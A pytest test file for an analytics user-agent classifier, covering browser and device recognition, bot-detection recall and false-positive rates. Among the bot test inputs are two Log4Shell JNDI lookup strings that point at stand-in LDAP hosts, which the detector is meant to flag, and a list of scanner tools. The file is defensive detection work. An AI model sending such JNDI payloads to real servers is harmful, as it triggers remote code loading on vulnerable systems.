"""analytics.useragent: families and versions, device classes, bot recall and false positives."""

from __future__ import annotations

import json
import re
from functools import cache
from importlib import resources
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from user_agents import parse as parse_with_user_agents

from analytics import useragent
from analytics.useragent import DEVICES, MAX_LENGTH, Client, classify, is_bot

DATA = Path(__file__).resolve().parents[1] / "data"
BROWSERS_FILE = DATA / "browser_user_agents.txt"
# See tests/data/README.md for where these corpora come from and how to refresh them.
REAL_BROWSERS_FILE = DATA / "browsers_real.tsv"
MATOMO_BOTS_FILE = DATA / "bots_matomo.txt"
MIN_RECALL = 0.97
# The targets of issue 11: recall on bot strings a detector was not built from, real browsers
# flagged, device classes that match the corpus's labels.
MIN_HELD_OUT_RECALL = 0.95
MAX_FALSE_POSITIVE_RATE = 0.001
MIN_DEVICE_AGREEMENT = 0.95
MIN_RECALL_GAIN = 0.2

CHROME_WINDOWS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36"
)
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


@cache
def crawler_list() -> list[dict]:
    return json.loads(
        resources.files("crawleruseragents")
        .joinpath("crawler-user-agents.json")
        .read_text(encoding="utf-8")
    )


@cache
def crawler_strings() -> list[str]:
    """Every example string of every crawler in the list."""
    return [instance for entry in crawler_list() for instance in entry.get("instances", [])]


@cache
def browser_strings() -> list[str]:
    return BROWSERS_FILE.read_text(encoding="utf-8").splitlines()


def corpus_lines(path: Path) -> list[str]:
    return [
        line
        for line in path.read_text(encoding="utf-8").splitlines()
        if line and not line.startswith("#")
    ]


@cache
def real_browsers() -> list[tuple[str, str, str]]:
    """(corpus, device, user agent) of the stored real browser strings."""
    return [tuple(line.split("\t", 2)) for line in corpus_lines(REAL_BROWSERS_FILE)]


@cache
def matomo_bots() -> list[str]:
    return corpus_lines(MATOMO_BOTS_FILE)


def detector_without(source: str):
    """The production verdict with one list left out (ua-parser's own verdict included)."""
    listed = useragent.bot_detector(s for s in useragent.BOT_SOURCES if s != source)
    return lambda user_agent: (
        listed(user_agent[:MAX_LENGTH].lower()) or useragent.known_to_ua_parser(user_agent)
    )


@pytest.mark.parametrize(
    ("user_agent", "expected"),
    [
        pytest.param(
            CHROME_WINDOWS,
            Client("Chrome", "126", "Windows", "10", "desktop", False),
            id="chrome-windows",
        ),
        pytest.param(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0",
            Client("Edge", "126", "Windows", "10", "desktop", False),
            id="edge-windows",
        ),
        pytest.param(
            "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
            Client("Firefox", "127", "Linux", "", "desktop", False),
            id="firefox-linux",
        ),
        pytest.param(
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
            "(KHTML, like Gecko) Version/17.5 Safari/605.1.15",
            Client("Safari", "17", "Mac OS X", "10.15", "desktop", False),
            id="safari-mac",
        ),
        pytest.param(
            "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/126.0.0.0 Safari/537.36",
            Client("Chrome", "126", "Chrome OS", "14541.0", "desktop", False),
            id="chrome-chromeos",
        ),
        pytest.param(
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 "
            "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
            Client("Mobile Safari", "17", "iOS", "17.5", "mobile", False),
            id="safari-iphone",
        ),
        pytest.param(
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
            "(KHTML, like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1",
            Client("Chrome Mobile iOS", "126", "iOS", "17.5", "mobile", False),
            id="chrome-iphone",
        ),
        pytest.param(
            "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
            "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
            Client("Mobile Safari", "17", "iOS", "17.5", "tablet", False),
            id="safari-ipad",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/126.0.0.0 Mobile Safari/537.36",
            Client("Chrome Mobile", "126", "Android", "10", "mobile", False),
            id="chrome-android-phone",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/126.0.0.0 Safari/537.36",
            Client("Chrome", "126", "Android", "10", "tablet", False),
            id="chrome-android-tablet",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-X710) AppleWebKit/537.36 "
            "(KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Safari/537.36",
            Client("Samsung Internet", "25", "Android", "14", "tablet", False),
            id="samsung-galaxy-tab",
        ),
        pytest.param(
            "Mozilla/5.0 (Android 14; Tablet; rv:128.0) Gecko/128.0 Firefox/128.0",
            Client("Firefox Mobile", "128", "Android", "14", "tablet", False),
            id="firefox-android-tablet",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
            "Chrome/126.0.6478.71 Mobile DuckDuckGo/5 Safari/537.36",
            Client("DuckDuckGo Mobile", "5", "Android", "14", "mobile", False),
            id="duckduckgo-android-phone",
        ),
        pytest.param(
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 "
            "(KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/468.0.0.49.108;FBBV/617053946;"
            "FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.5.1;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]",
            Client("Facebook", "468", "iOS", "17.5", "mobile", False),
            id="facebook-in-app",
        ),
    ],
)
def test_browsers_are_classified_exactly(user_agent, expected):
    assert classify(user_agent) == expected


@pytest.mark.parametrize(
    "user_agent",
    [
        pytest.param(GOOGLEBOT, id="googlebot"),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/126.0.6478.126 Mobile Safari/537.36 "
            "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            id="googlebot-smartphone",
        ),
        pytest.param(
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
            "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
            id="bingbot",
        ),
        pytest.param(
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "HeadlessChrome/126.0.6478.126 Safari/537.36",
            id="headless-chrome",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse",
            id="lighthouse",
        ),
        pytest.param("curl/8.5.0", id="curl"),
        pytest.param("python-requests/2.32.3", id="python-requests"),
        pytest.param("Python-urllib/3.11", id="python-urllib"),
        pytest.param("Go-http-client/1.1", id="go-http-client"),
        pytest.param("Wget/1.21.4", id="wget"),
        pytest.param("okhttp/4.12.0", id="okhttp"),
        pytest.param("axios/1.7.2", id="axios"),
        pytest.param(
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            id="facebookexternalhit",
        ),
        pytest.param("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", id="slackbot"),
        pytest.param("WhatsApp/2.23.20.0 A", id="whatsapp-preview"),
        pytest.param("", id="empty"),
        pytest.param("   ", id="blank"),
        pytest.param("Mozilla", id="too-short"),
    ],
)
def test_bots_are_detected(user_agent):
    client = classify(user_agent)
    assert client.is_bot
    assert client.device == "bot"
    assert is_bot(user_agent)


@pytest.mark.parametrize(
    "user_agent",
    [
        pytest.param(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Slack/4.39.95 Chrome/126.0.6478.127 Electron/31.2.0 Safari/537.36 AppName/Slack",
            id="electron-app",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 11; CUBOT P50 Build/RP1A.200720.011; wv) "
            "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.122 "
            "Mobile Safari/537.36",
            id="cubot-phone",
        ),
    ],
)
def test_look_alikes_are_people(user_agent):
    assert not is_bot(user_agent)


def test_lowering_a_pattern_keeps_its_escapes():
    assert useragent._lower_pattern(r"Spider[\s\S]*Spider\.COM") == r"spider[\s\S]*spider\.com"


def test_a_16_kb_user_agent_is_cut_before_parsing():
    huge = GOOGLEBOT + "x" * 16_384
    client = classify(huge)
    assert client.is_bot
    # The same cached object as for the first MAX_LENGTH characters: nothing beyond them is
    # parsed or kept, which is what keeps such a header cheap.
    assert client is classify(huge[:MAX_LENGTH])
    assert classify("A" * 16_384).device in DEVICES


def test_the_cache_returns_the_identical_object():
    user_agent = CHROME_WINDOWS + " cache-probe"
    useragent.clear_cache()
    first = classify(user_agent)
    assert classify(user_agent) is first
    assert useragent._classify.cache_info().hits >= 1


def test_the_browser_list_is_large_and_clean():
    lines = browser_strings()
    assert len(lines) >= 150
    assert len(set(lines)) == len(lines)
    assert all(line.strip() == line and line and not line.startswith("#") for line in lines)


def test_no_browser_is_classified_as_a_bot():
    bots = [user_agent for user_agent in browser_strings() if is_bot(user_agent)]
    assert bots == []


def test_no_kept_crawler_pattern_matches_a_browser():
    # Finds the pattern to put into EXCLUDED_CRAWLER_PATTERNS when the list grows a broad one.
    hits = [
        (entry["pattern"], user_agent)
        for entry in crawler_list()
        if entry["pattern"] not in useragent.EXCLUDED_CRAWLER_PATTERNS
        for user_agent in browser_strings()
        if re.search(entry["pattern"], user_agent, re.IGNORECASE)
    ]
    assert hits == []


def test_all_crawler_patterns_are_used():
    assert useragent.CRAWLER_PATTERNS_SKIPPED == 0
    assert useragent.CRAWLER_PATTERNS_USED == len(crawler_list()) - len(
        useragent.EXCLUDED_CRAWLER_PATTERNS
    )


def recall(detect) -> float:
    strings = crawler_strings()
    return sum(1 for user_agent in strings if detect(user_agent)) / len(strings)


def test_recall_over_every_crawler_instance():
    assert len(crawler_strings()) > 1000
    assert recall(is_bot) >= MIN_RECALL


def test_recall_is_clearly_better_than_user_agents_alone():
    ours = recall(is_bot)
    theirs = recall(lambda user_agent: parse_with_user_agents(user_agent).is_bot)
    assert ours - theirs >= MIN_RECALL_GAIN, (ours, theirs)


@cache
def reference_crawler_regexes() -> list[re.Pattern[str]]:
    """The crawler list compiled the plain way: re.IGNORECASE, in chunks, nothing factored."""
    patterns = [
        entry["pattern"]
        for entry in crawler_list()
        if entry["pattern"] not in useragent.EXCLUDED_CRAWLER_PATTERNS
    ]
    return [
        re.compile("|".join(f"(?:{p})" for p in patterns[i : i + 50]), re.IGNORECASE)
        for i in range(0, len(patterns), 50)
    ]


def reference_matches(user_agent: str) -> bool:
    return any(regex.search(user_agent) for regex in reference_crawler_regexes())


def test_the_fast_crawler_regex_agrees_with_the_plain_one():
    for user_agent in crawler_strings() + browser_strings():
        assert useragent.matches_crawler_list(user_agent) == reference_matches(user_agent), (
            user_agent
        )


@settings(max_examples=200, deadline=None, database=None)
@given(
    instance=st.sampled_from(crawler_strings()),
    start=st.integers(min_value=0, max_value=60),
    length=st.integers(min_value=1, max_value=60),
    swap_case=st.booleans(),
)
def test_the_fast_crawler_regex_agrees_on_fragments(instance, start, length, swap_case):
    # Fragments cut through the literal prefixes the fast regex factors out.
    fragment = instance[start : start + length]
    if swap_case:
        fragment = fragment.swapcase()
    assert useragent.matches_crawler_list(fragment) == reference_matches(fragment)


@settings(max_examples=300, deadline=None, database=None)
@given(st.text(max_size=2000))
def test_classify_never_raises(text):
    client = classify(text)
    assert client.device in DEVICES
    assert client.is_bot == (client.device == "bot")
    assert isinstance(client.browser, str)
    assert isinstance(client.os_version, str)


# --- issue 11: detection that generalises ------------------------------------------------------


@pytest.mark.parametrize(
    "user_agent",
    [
        pytest.param("ApacheBench/2.3", id="apachebench"),
        pytest.param(
            "Amazon-Route53-Health-Check-Service (ref 3e1b2a4c-8d2f-4d4b-9f1e-5a6b7c8d9e0f; "
            "report http://amzn.to/1vsZADi)",
            id="route53-health-check",
        ),
        pytest.param("${jndi:ldap://198.51.100.7:1389/Exploit}", id="log4j-probe"),
        pytest.param(
            "Mozilla/5.0 (Windows NT 10.0) ${jndi:ldap://scanner.example/a} Chrome/120.0",
            id="log4j-probe-in-a-browser-string",
        ),
        pytest.param(
            "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
            id="uptimerobot",
        ),
        pytest.param("check_http/v2.3.3 (monitoring-plugins 2.3.3)", id="nagios-check-http"),
        pytest.param("Zabbix", id="zabbix"),
        pytest.param("Mozilla/5.0 (compatible; Nessus; http://www.nessus.org)", id="nessus"),
        pytest.param("Mozilla/5.0 zgrab/0.x", id="zgrab"),
        pytest.param("gobuster/3.1.0", id="gobuster"),
        pytest.param(
            "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers)", id="feed-fetcher"
        ),
        pytest.param("HTTPie/3.2.2", id="httpie"),
        pytest.param("PostRank/2.0 (postrank.com)", id="program-name-without-mozilla"),
        pytest.param(
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/100.0.4896.60 Safari/537.36 NewRelicSynthetics/1.0",
            id="synthetic-monitor",
        ),
        pytest.param("Mozilla/5.0 (compatible; SerpReputationManagementAgent/1.0)", id="seo-agent"),
        pytest.param(
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "HeadlessChrome/120.0.6099.28 Safari/537.36",
            id="headless-chrome",
        ),
    ],
)
def test_bots_that_were_counted_as_people_are_dropped(user_agent):
    client = classify(user_agent)
    assert client.is_bot
    assert client.device == "bot"


@pytest.mark.parametrize(
    ("user_agent", "device"),
    [
        pytest.param(
            "Mozilla/5.0 (Linux; Android 12; 22111317G) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/112.0.0.0 Mobile Safari/537.36",
            "mobile",
            id="redmi-22111317g",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 7.0; AS-503) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/80.0.3987.87 Mobile Safari/537.36",
            "mobile",
            id="as-503",
        ),
        # Crawler-list patterns "Sonic", "Butterfly" and a build number hit these model names.
        pytest.param(
            "Mozilla/5.0 (Linux; Android 5.1; Panasonic P77) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/86.0.4240.185 Mobile Safari/537.36",
            "mobile",
            id="panasonic",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 4.2.2; HTC Butterfly Build/JDQ39) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/31.0.1650.59 Mobile Safari/537.36",
            "mobile",
            id="htc-butterfly",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 15; RMX5250 Build/AP3A.240617.008; wv) "
            "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/141.0.7390.97 "
            "Mobile Safari/537.36",
            "mobile",
            id="build-number-in-the-crawler-list",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 11; CUBOT P50 Build/RP1A.200720.011; wv) "
            "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.122 "
            "Mobile Safari/537.36",
            "mobile",
            id="cubot",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; U; Android 15; zh-CN; PKH120 Build/AP3A.240617.008) "
            "AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 "
            "UCBrowser/17.5.8.1366 Mobile Safari/537.36",
            "mobile",
            id="uc-browser",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 10; Sogou) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/80.0.3987.99 Mobile Safari/537.36 SogouMobileBrowser/5.28.12",
            "mobile",
            id="sogou-browser",
        ),
    ],
)
def test_real_phones_are_not_dropped_as_bots(user_agent, device):
    client = classify(user_agent)
    assert not client.is_bot
    assert client.device == device


def test_an_email_client_fetching_for_a_person_is_not_a_bot():
    # Newsletter open tracking asks is_bot too: Outlook's own string has no "Mozilla/".
    assert not is_bot("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)")


@pytest.mark.parametrize(
    ("user_agent", "device"),
    [
        pytest.param(
            "Mozilla/5.0 (Linux; Android 7.1.1; Vostro 3546) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/81.0.4044.117 Safari/537.36",
            "desktop",
            id="android-laptop",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 9; Dell Chromebook 11 (3180)) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/76.0.3809.132 Safari/537.36 OPR/54.1.2672.49808",
            "desktop",
            id="chromebook-running-android",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 10; Samsung Chromebook Plus Build/R74-11895.118.0) "
            "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/93.0.4577.62 Mobile Safari/537.36",
            "desktop",
            id="chromebook-saying-mobile",
        ),
        pytest.param(
            "Mozilla/5.0 (X11; CrOS aarch64 15633.69.0) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/119.0.6045.212 Safari/537.36",
            "desktop",
            id="cros",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 13; SM-X200) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/120.0.0.0 Safari/537.36",
            "tablet",
            id="android-tablet-without-mobile",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 11; SM-T220) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/120.0.0.0 Mobile Safari/537.36",
            "tablet",
            id="galaxy-tab-saying-mobile",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; Android 11; Lenovo TB-7305F) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
            "tablet",
            id="lenovo-tab-saying-mobile",
        ),
        pytest.param(
            "Mozilla/5.0 (Linux; U; Android 4.0.3; ru-ru; ThinkPad Tablet "
            "Build/ThinkPadTablet_A400_03) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 "
            "Safari/534.30",
            "tablet",
            id="thinkpad-tablet",
        ),
        pytest.param(
            "Dalvik/2.1.0 (Linux; U; Android 6.0.1; SM-N930A Build/MMB29K)",
            "mobile",
            id="app-on-a-phone",
        ),
        pytest.param(
            "Mozilla/5.0 (X11; OpenBSD amd64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/28.0.1500.45 Safari/537.36",
            "desktop",
            id="openbsd",
        ),
    ],
)
def test_device_classes_of_less_common_hardware(user_agent, device):
    assert classify(user_agent).device == device


def test_real_browsers_are_almost_never_flagged():
    browsers = [user_agent for _, _, user_agent in real_browsers()]
    assert len(browsers) >= 3000
    flagged = [user_agent for user_agent in browsers if is_bot(user_agent)]
    assert len(flagged) / len(browsers) <= MAX_FALSE_POSITIVE_RATE, flagged


def test_browsers_of_independent_traffic_are_never_flagged():
    # Intoli's strings come from real traffic and were used to build none of the lists.
    intoli = [user_agent for corpus, _, user_agent in real_browsers() if corpus == "intoli"]
    assert len(intoli) >= 500
    assert [user_agent for user_agent in intoli if is_bot(user_agent)] == []


def test_device_classes_agree_with_the_corpus_labels():
    rows = real_browsers()
    wrong = [(device, ua) for _, device, ua in rows if classify(ua).device != device]
    assert 1 - len(wrong) / len(rows) >= MIN_DEVICE_AGREEMENT, wrong[:20]


def test_matomos_bots_are_found_without_matomos_patterns():
    bots = matomo_bots()
    assert len(bots) >= 1000
    detect = detector_without("matomo")
    assert sum(map(detect, bots)) / len(bots) >= MIN_HELD_OUT_RECALL


def test_the_crawler_lists_bots_are_found_without_its_patterns():
    detect = detector_without("crawler-user-agents")
    strings = crawler_strings()
    assert sum(map(detect, strings)) / len(strings) >= MIN_HELD_OUT_RECALL


def test_every_source_is_needed_to_find_every_bot():
    # Each list finds bots the other sources miss: that is why all of them are combined.
    for source in useragent.BOT_SOURCES:
        detect = detector_without(source)
        assert not all(detect(ua) for ua in crawler_strings() + matomo_bots()), source


def test_no_list_pattern_matches_a_real_browser():
    # Finds the pattern to put into EXCLUDED_CRAWLER_PATTERNS or EXCLUDED_MATOMO_PATTERNS when a
    # list grows a broad one (an Android model and build are never looked at, see _mask_device).
    hits = [
        ua
        for _, _, ua in real_browsers()
        if useragent.matches_crawler_list(useragent._mask_device(ua.lower()))
        or useragent.matches_matomo_list(useragent._mask_device(ua.lower()))
    ]
    assert hits == []


def test_all_matomo_patterns_are_used():
    assert useragent.MATOMO_PATTERNS_SKIPPED == 0
    assert useragent.MATOMO_PATTERNS_USED == len(useragent.matomo_patterns()) - len(
        useragent.EXCLUDED_MATOMO_PATTERNS
    )


def test_a_pcre_look_behind_of_several_widths_is_split_for_python():
    split = useragent._split_lookbehinds(r"(?<!node-|electron-)fetch|(?<=a|bc)d")
    assert split == r"(?<!node-)(?<!electron-)fetch|(?:(?<=a)|(?<=bc))d"
    regex = re.compile(split)
    assert regex.search("fetch") and not regex.search("node-fetch")
    assert regex.search("bcd") and not regex.search("xd")


def test_an_unknown_bot_source_is_refused():
    with pytest.raises(ValueError, match="unknown bot sources"):
        useragent.bot_detector(["generic", "isbot"])
